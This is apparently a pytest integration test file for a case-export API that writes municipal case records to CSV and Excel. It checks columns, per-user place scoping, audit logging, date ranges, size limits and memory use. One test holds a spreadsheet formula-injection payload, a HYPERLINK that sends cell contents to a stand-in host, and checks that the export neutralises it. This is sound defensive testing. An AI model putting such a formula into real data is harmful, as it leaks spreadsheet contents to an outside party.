"""Cases as a table: the district's columns, within one's places, in bounds, and never unseen."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import datetime, timedelta
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from app.core import clock
from app.insights import case_export, case_queries
from tests import factories
from tests.integration.case_street import BUILDING, CaseStreet, Person, fix, photo

HUANGPU = [
    "案件状态", "任务号", "案件来源", "发现时间", "流转方向", "案件属性", "案件大类", "案件小类", "案件子类", "街镇",
    "发生地址", "立案部门", "派遣时间", "主责部门", "三级主责部门", "结案时间",
]  # fmt: skip
OURS = ["点定盯", "时限", "到期时间", "是否超期", "退回次数", "返工次数"]


@pytest.fixture
def street(app) -> CaseStreet:
    return CaseStreet(app)


def ask(person: Person, form: str = "csv", **query: Any) -> Any:
    today = clock.now().astimezone(clock.SHANGHAI).date()
    asked = {"format": form, "from": today.isoformat(), "to": today.isoformat()} | query
    return person.client.get(
        "/api/v1/cases/export", query_string=asked, headers=person.headers, buffered=True
    )


def rows_of(person: Person, **query: Any) -> list[dict[str, str]]:
    answer = ask(person, **query)
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


def exports(street: CaseStreet) -> list[Any]:
    return street.sql(
        "select actor_id, place_code, data from ledger_row where action = 'case.exported' order by id"
    )


def test_a_csv_has_the_districts_columns_then_ours(street):
    case = street.patrol.file(address="枣阳路 100 号")
    street.handler.about("case_accepted", case)
    street.handler.about("case_returned", case, reason="not_ours", text="这是市容的事")
    answer = ask(street.leader)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer.headers["Content-Disposition"]
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.data.startswith(b"\xef\xbb\xbf")
    (row,) = rows_of(street.leader)
    assert list(row) == HUANGPU + OURS
    seen = street.leader.case(case)
    filed = datetime.fromisoformat(seen["filed_at"]).astimezone(clock.SHANGHAI)
    assert row | {"发现时间": "", "派遣时间": "", "到期时间": ""} == {
        "案件状态": "已退回",
        "任务号": seen["number"],
        "案件来源": "巡查上报",
        "发现时间": "",
        "流转方向": "裁定",
        "案件属性": "事件",
        "案件大类": "街面秩序类",
        "案件小类": "店外经营",
        "案件子类": "跨门营业",
        "街镇": street.sql("select name from place where code = :c", c=street.street.code)[0].name,
        "发生地址": "枣阳路 100 号",
        "立案部门": street.sql("select name from place where code = :c", c=street.street.code)[0].name,
        "派遣时间": "",
        "主责部门": "城管执法",
        "三级主责部门": street.sql("select name from place where code = :c", c=street.street.areas[0])[0].name
        + "城管执法",
        "结案时间": "",
        "点定盯": "点到人",
        "时限": "2 紧急工作时",
        "到期时间": "",
        "是否超期": "否",
        "退回次数": "1",
        "返工次数": "0",
    }
    assert row["到期时间"] == f"{filed + timedelta(hours=2):%Y-%m-%d %H:%M:%S}"


def test_a_workbook_has_the_same_with_real_dates(street):
    now = clock.now()
    street.patrol.file(photos=[photo("before", now), photo("after", now)], fixed_on_spot=True)
    street.patrol.file(BUILDING)
    answer = ask(street.leader, "xlsx")
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"].endswith("spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(answer.data))["案件"]
    headings, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert headings == HUANGPU + OURS
    first, second = (dict(zip(headings, row, strict=True)) for row in rows)
    assert (first["案件状态"], second["案件状态"]) == ("已结案", "待接收")
    assert (first["点定盯"], second["点定盯"]) == ("点到人", "盯到人")
    local = now.astimezone(clock.SHANGHAI).replace(tzinfo=None)
    assert abs(first["结案时间"] - local) < timedelta(minutes=1)
    assert second["结案时间"] is None
    assert first["退回次数"] == 0


def test_what_people_wrote_is_no_formula_and_nobodys_name_is_in_it(street):
    evil = '=HYPERLINK("http://example.com/"&A1,"点我")'
    street.patrol.file(address=evil, text="电话 13800000000")
    (row,) = rows_of(street.leader)
    assert row["发生地址"] == f"'{evil}"
    sheet = load_workbook(io.BytesIO(ask(street.leader, "xlsx").data)).active
    assert (sheet.cell(2, 11).value, sheet.cell(2, 11).data_type) == (evil, "s")
    whole = ask(street.leader).data.decode()
    names = {p.user.display_name for p in (street.patrol, street.handler, street.leader)}
    assert not [name for name in names if name in whole]
    assert "13800000000" not in whole


def test_everybody_exports_their_own_places_only(street):
    street.patrol.file()
    assert len(rows_of(street.leader)) == 1
    assert len(rows_of(street.supervisor)) == 1
    assert rows_of(street.other_supervisor) == []
    assert len(rows_of(street.leader, place=street.street.areas[0])) == 1
    assert rows_of(street.leader, place=street.street.areas[1]) == []
    assert ask(street.other_supervisor, place=street.street.areas[0]).status_code == 403
    for person in (street.patrol, street.handler):
        assert ask(person).status_code == 403


def test_every_export_is_written_down_with_who_which_days_and_how_many(street):
    street.patrol.file()
    today = clock.now().astimezone(clock.SHANGHAI).date().isoformat()
    area = street.street.areas[0]
    ask(street.leader)
    ask(street.supervisor, "xlsx", place=area)
    whole, part = exports(street)
    assert (whole.actor_id, whole.place_code) == (street.leader.id, street.street.code)
    assert whole.data == {"format": "csv", "from": today, "to": today, "place": None, "rows": 1}
    assert (part.actor_id, part.place_code) == (street.supervisor.id, area)
    assert (part.data["format"], part.data["place"], part.data["rows"]) == ("xlsx", area, 1)


def test_days_without_cases_make_an_empty_table_that_is_written_down_too(street):
    last_year = {"from": "2025-01-01", "to": "2025-12-31"}
    assert rows_of(street.leader, **last_year) == []
    assert ask(street.leader, "xlsx", **last_year).status_code == 200
    assert [row.data["rows"] for row in exports(street)] == [0, 0]


def test_days_are_those_of_shanghai_and_both_ends_count(street):
    night = datetime(2026, 11, 23, 23, 59, 59, tzinfo=clock.SHANGHAI)
    with clock.frozen(night):
        street.patrol.file(fix=fix(night), photos=[photo("before", night)])
    assert [
        row["任务号"][-4:] for row in rows_of(street.leader, **{"from": "2026-11-23", "to": "2026-11-23"})
    ] == ["0001"]
    assert rows_of(street.leader, **{"from": "2026-11-24", "to": "2026-11-24"}) == []


@pytest.mark.parametrize(
    "query",
    [
        {"from": "2026-01-02", "to": "2026-01-01"},
        {"from": "2025-01-01", "to": "2026-01-02"},
        {"from": "2026-02-30"},
        {"format": "pdf"},
    ],
)
def test_a_span_that_makes_no_sense_is_refused(street, query):
    answer = ask(street.leader, **query)
    assert (answer.status_code, answer.json["type"]) == (422, "/problems/invalid")
    assert exports(street) == []


def test_a_leap_year_is_not_too_long(street):
    assert ask(street.leader, **{"from": "2024-01-01", "to": "2024-12-31"}).status_code == 200


def test_more_cases_than_a_table_holds_are_refused_with_words_not_cut(street, monkeypatch):
    monkeypatch.setattr(case_export, "MOST_ROWS", 1)
    street.patrol.file()
    assert len(rows_of(street.leader)) == 1
    street.patrol.file()
    answer = ask(street.leader)
    assert (answer.status_code, answer.json["type"]) == (422, "/problems/export-too-large")
    assert [row.data["rows"] for row in exports(street)] == [1]


_COPIES = text(
    "insert into case_file select (jsonb_populate_record(c, jsonb_build_object("
    "'id', gen_random_uuid(), 'number', c.number || '-' || n, 'filed_at', "
    "c.filed_at + n * interval '1 millisecond'))).* "
    "from case_file c, generate_series(cast(:first as int), cast(:last as int)) n where c.number not like '%-%-%'"
)


def exported(street: CaseStreet, form: str) -> tuple[list[str], int]:
    """The numbers of all cases in an export, and the most memory that making it took, in bytes."""
    tracemalloc.start()
    body = ask(street.leader, form).data
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    if form == "csv":
        lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))[1:]
        return [line[1] for line in lines], peak
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    return [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)], peak


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_many_cases_come_in_chunks_each_once_and_memory_does_not_grow_with_them(street, form, monkeypatch):
    monkeypatch.setattr(case_queries, "EXPORT_CHUNK", 100)
    street.patrol.file()
    peaks = []
    for first, last in ((1, 300), (301, 1_200)):
        with factories.writing() as session:
            session.execute(_COPIES, {"first": first, "last": last})
        numbers, peak = exported(street, form)
        peaks.append((len(numbers), peak))
        assert len(numbers) == len(set(numbers))
    (few, less), (many, more) = peaks
    assert (few, many) == (301, 1_201)
    # what grows is the file itself, which the client reads whole
    assert more - less < 300 * (many - few), peaks


def test_an_export_that_fails_leaves_no_trace_and_no_file(street, monkeypatch):
    street.patrol.file()

    def broken(*_: Any) -> Any:
        raise OSError("no space left on device")

    monkeypatch.setattr(case_export, "row_of", broken)
    assert ask(street.leader).status_code == 500
    assert exports(street) == []
